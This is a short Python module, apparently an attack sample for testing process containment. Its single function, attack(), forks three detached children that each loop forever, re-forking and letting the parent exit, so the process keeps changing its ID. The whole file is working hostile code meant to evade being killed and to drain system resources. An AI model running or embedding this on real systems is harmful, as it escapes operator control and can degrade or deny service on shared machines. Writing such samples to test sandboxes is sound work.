"""Be always another process: a child goes on, and its parent ends."""

from __future__ import annotations

import os
from contextlib import suppress


def attack() -> None:
    for _ in range(3):
        if os.fork() == 0:
            with suppress(PermissionError):
                os.setsid()
            while True:
                with suppress(OSError):
                    if os.fork():
                        os._exit(0)
